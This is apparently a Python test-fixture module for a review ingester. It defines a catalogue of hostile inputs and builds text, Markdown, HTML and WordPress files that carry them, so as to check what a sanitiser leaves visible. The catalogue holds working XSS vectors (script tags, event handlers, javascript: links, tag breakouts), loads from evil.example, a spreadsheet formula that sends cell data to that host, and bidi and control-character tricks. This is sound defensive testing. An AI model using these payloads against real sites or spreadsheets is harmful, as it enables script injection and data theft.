"""Hostile material: a payload of every kind, files that carry one in every field, and what a reader should see of each.

What should be seen: of plain text, YAML and names the characters themselves; of HTML the text that a parser which follows
the standard (nh3) finds outside scripts, players, pictures and controls; of Markdown that of its rendering. Unseen characters
count for nothing, broken encodings are mended.
"""

from __future__ import annotations

import json
import os
import re
import unicodedata
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from html import escape, unescape
from pathlib import Path

import nh3
from markdown_it import MarkdownIt

RUN = "window.pwned=1"
EVIL = "https://evil.example"
OWN: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "handler": f"<img src=x onerror={RUN}>",
    "svg": f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'>slow</a></svg>",
    "link": f"<a href='javascript:{RUN}'>slow</a>",
    "scheme": f"JaVa\tScript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "Markdown": f"[slow](javascript:{RUN}) ![fast]({EVIL}/x.png) <{EVIL}>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a style": f"</style><script>{RUN}</script><style>body{{display:none}}",
    "end of a text area": f"</textarea></title></noscript></template><script>{RUN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>' src='javascript:{RUN}'></iframe>",
    "formula": f"<math><mi xlink:href='javascript:{RUN}'>slow</mi></math>",
    "TeX": f"$\\href{{javascript:{RUN}}}{{slow}}$ and $5 or $10, $$\\require{{html}}$$ \\(x\\)",
    "disclosure": f"<details open ontoggle={RUN}><summary>slow</summary></details>",
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus=\'{RUN}\' x="',
    "base": f"<base href='{EVIL}/'><link rel=stylesheet href='{EVIL}/x.css'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "form": f"<form action='{EVIL}/'><input name=q formaction=x><button>slow</button></form>",
    "media": f"<img src='{EVIL}/x.png' srcset='{EVIL}/y.png 2x'><video autoplay src='{EVIL}/x.mp4'></video>",
    "style": f"<p style='background:url({EVIL}/z)'>slow</p><style>@import '{EVIL}/a.css'</style>",
    "clobber": "<button popovertarget=p1 popover>slow</button><b id=matrix-controls>x</b> <a id=mx name=body>y</a>",
    "end of a page": "</main></body></html><plaintext>",
    "comment": "<!-- <template> <!--> <![CDATA[ ]]>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} %{customdata[0]} #{7*7}",
    "escaped": "&lt;img src=x onerror=alert(1)&gt; &amp;amp; \\u003cscript\\u003e",
    "spreadsheet": '=HYPERLINK("https://evil.example/?"&A1,"slow")',
    "second cell": "slow;=1+1\t=2+2",
    "direction": "gnp.\u202eexe\u202c and \u2066isolated\u2069 and \u200fmarked",
    "unseen": "a\u200bb\u00adc \ufeff \x0c \u2028 \u2029 d",
    "control": "bell \x07 escape \x1b[31mred\x1b[0m \x85 next",
    "half a character": "\ud83d left \ude00",
    "long": "Donaudampfschifffahrtsgesellschaftskapitän" * 10,
    "marks": "slow" + "\u0300\u0323" * 40,
    "right to left": "مجلة السينما العربية",
    "joined": "👩‍👩‍👧 견우와 선녀 𝒢",
    "mojibake": "It’s a cafÃ© â€œslowâ€\x9d",
}
MENDED = {OWN["mojibake"]: "It’s a café “slow”"}
FIELDS = ("headline", "author", "publisher", "url", "tags", "body")
# Parts of a page that are no words of the review; each leaves a receipt, but for what holds no words.
NO_WORDS = "script style iframe object embed video audio noscript template noembed noframes xmp title textarea select button svg math canvas picture nav head figcaption".split()  # fmt: skip
FORMATS = ("text", "markdown", "html", "wordpress")
SHARED = Path(os.environ.get("COUNTERPOINT_SHARED") or Path(__file__).parents[2] / "shared") / "hostile"
BODY = "The show is slow and warm, and I loved it very much. The leads talk to each other like adults, {}."
UNSEEN = frozenset({"Cc", "Cf", "Cs", "Cn", "Co"})  # Co: for private use, without a shape of its own
IGNORED = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u3164\uffa0\ufffd")
TURNING = re.compile(
    "[\u061c\u200e\u200f\u202a-\u202e\u2066\u2067]|\u2068(?![^\u2066-\u2069<]*\u2069)"
)  # not a name set apart


@dataclass(frozen=True)
class Payload:
    """A hostile text; what is meant where its encoding is broken, and where its character references are decoded first."""

    text: str
    meant: str
    decoded: str


def payloads(shared: Path | None) -> list[Payload]:
    """Our own, and those of the shared folder where there is one: DOMPurify's, the naughty strings, the mojibake."""
    meant, plain = dict(MENDED), dict[str, str]()
    texts = list(OWN.values())
    if shared:
        texts += [e["payload"] for e in json.loads((shared / "dompurify-expect.json").read_text("utf-8"))]
        texts += json.loads((shared / "blns.json").read_text("utf-8"))
        cases = [c for f in sorted((shared / "mojibake").glob("*.json")) for c in json.loads(f.read_text("utf-8"))]  # fmt: skip
        texts += [case["original"] for case in cases]
        meant |= {c["original"]: c.get("fixed-encoding", c["fixed"]) for c in cases if c["expect"] == "pass"}
        plain |= {
            c["original"]: c["fixed"]
            for c in cases
            if c["expect"] == "pass" and whole(c["original"]) != c["original"]
        }
    return [Payload(t, meant.get(t, t), plain.get(t, meant.get(t, t))) for t in dict.fromkeys(texts)]


def inked(text: str) -> str:
    """A text without what leaves no ink, its spaces kept."""
    text = unicodedata.normalize("NFC", re.sub(r"\x1b\[[\d;]*[A-Za-z]", "", text))
    shown = (c for c in text if c.isspace() or unicodedata.category(c) not in UNSEEN)
    return unicodedata.normalize("NFC", "".join(c for c in shown if c not in IGNORED))


def visible(text: str) -> str:
    """What of a text leaves ink, without its spaces."""
    return "".join(inked(text).split())


def unseen(text: str) -> list[str]:
    """Characters that command a terminal, turn a direction or break an encoding."""
    bad = (c for c in text if unicodedata.category(c) in {"Cc", "Cs"} or TURNING.match(c))
    return [f"U+{ord(c):04X}" for c in bad if c != "\n"]


def whole(text: str) -> str:
    """Text with its complete character references decoded."""
    return re.sub(r"&#?\w{1,32};", lambda found: unescape(found[0]), text)


def lost(want: str, got: str, signs: bool = True) -> str:
    """What of the words, and of the signs, that should be seen is not; an empty string where all is."""
    ink = visible(got)
    words = [w for w in re.findall(r"\w+", inked(want)) if w not in ink]
    missing = Counter(visible(want)) - Counter(ink) if signs else Counter[str]()
    return " ".join(words) or "".join(missing.elements())


def words_of(html: str, *more: str) -> str:
    """The words a page of this HTML shows."""
    gone = {*NO_WORDS, *more}
    cleaner = nh3.Cleaner(tags=nh3.ALLOWED_TAGS - gone, clean_content_tags=gone, attributes={}, link_rel=None)
    cleaned = cleaner.clean(re.sub("[\ud800-\udfff]", "\ufffd", html))
    return unescape(re.sub("<[^>]*>", " ", cleaned))


def wanted(format: str, payload: Payload) -> dict[str, str]:
    """What a reader should see of a payload in each field of a file of this format, but for its address."""
    meant, plain = payload.meant, payload.decoded
    names = dict.fromkeys(("headline", "author", "publisher", "tags"), meant[:500])
    if format == "wordpress":
        said = unescape(plain[:500])
        return {**names, "headline": words_of(plain, "form"), "author": said, "tags": said, "body": words_of(plain)}  # fmt: skip
    if format == "html":  # titles are decoded once more: sites escape them twice
        return {**names, "headline": unescape(plain[:500]), "body": words_of(plain)}
    if format == "markdown":
        rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(f"{meant}\n")
        return {**names, "body": words_of(rendered)}
    return {**names, "body": whole(meant)}


def file_of(format: str, texts: Mapping[str, str], number: int) -> bytes:
    """A file of this format with a text in each field. Plain text has a body alone: `show.yaml` must give the rest."""
    body = BODY.format(number)
    if format == "text":
        said = re.sub(r"[\r\n\x0b\x0c\u2028\u2029]+", " ", texts["body"])
        made = f"{body}\n\nThe pace is brisk, {said}, and the writing is superb."
    elif format == "markdown":
        front = "".join(f"{name}: {quoted(texts[name])}\n" for name in ("author", "publisher", "url"))
        front += f"title: {quoted(texts['headline'])}\ntags: [{quoted(texts['tags'])}]\n"
        made = f"---\n{front}---\n\n{body}\n\n{texts['body']}\n"
    elif format == "html":
        made = _page({name: escape(t) for name, t in texts.items()}, body, texts["body"])
    else:
        return json.dumps(post(texts, number)).encode()
    return made.encode("utf-8", "replace")


def quoted(text: str, spelt: str = "") -> str:
    """A YAML scalar. Spelt out is what YAML cannot hold, and what is asked for."""
    plain = json.dumps(text, ensure_ascii=False)
    return re.sub(f"[{spelt}\x7f\ufeff\ufffe\uffff\ud800-\udfff]", lambda m: f"\\u{ord(m[0]):04x}", plain)


def post(texts: Mapping[str, str], number: int) -> dict[str, object]:
    """A WordPress post as the REST interface serves it."""
    return {
        "id": number, "type": "post", "date": "2025-07-12T10:00:00", "link": texts["url"],
        "title": {"rendered": texts["headline"]}, "excerpt": {"rendered": texts["headline"]},
        "content": {"rendered": f"<p>{BODY.format(number)}</p><div>{texts['body']}</div>"},
        "yoast_head_json": {"og_site_name": texts["publisher"]},
        "_embedded": {"author": [{"name": texts["author"]}], "wp:term": [[{"taxonomy": "post_tag", "name": texts["tags"]}]]},
    }  # fmt: skip


def _page(said: Mapping[str, str], body: str, raw: str) -> str:
    """A saved page; what its head says is escaped, as any site would, and its body is not."""
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{said['headline']}</title>"
        f'<meta property="og:title" content="{said["headline"]}"><meta name=author content="{said["author"]}">'
        f'<meta property="og:site_name" content="{said["publisher"]}"><link rel=canonical href="{said["url"]}">'
        f'<meta property="article:tag" content="{said["tags"]}"></head><body><article><h1>{said["headline"]}</h1>'
        f"<p>{body}</p><div>{raw}</div><p>In the end it is a quiet drama about two people who walk home together "
        "every night, and neither of them needs saving; it would be hard to ask for more.</p></article></body></html>"
    )


def packed(texts: list[str], most: int = 480) -> Iterator[str]:
    """The texts in as few lines as hold them, each line fit for a name."""
    line = ""
    for text in texts:
        if line and len(line) + len(text) + 3 > most:
            yield line
            line = ""
        line += f" · {text}" if line else text[:most]
    if line:
        yield line
